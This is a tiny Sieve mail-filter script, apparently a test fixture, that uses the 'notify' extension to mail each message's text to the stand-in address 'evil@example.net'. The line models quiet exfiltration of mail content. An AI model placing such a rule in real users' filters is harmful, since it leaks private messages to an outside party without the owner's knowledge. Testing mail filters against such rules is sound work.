require "notify";
notify :method "mailto" :options "evil@example.net" :message "$text$";
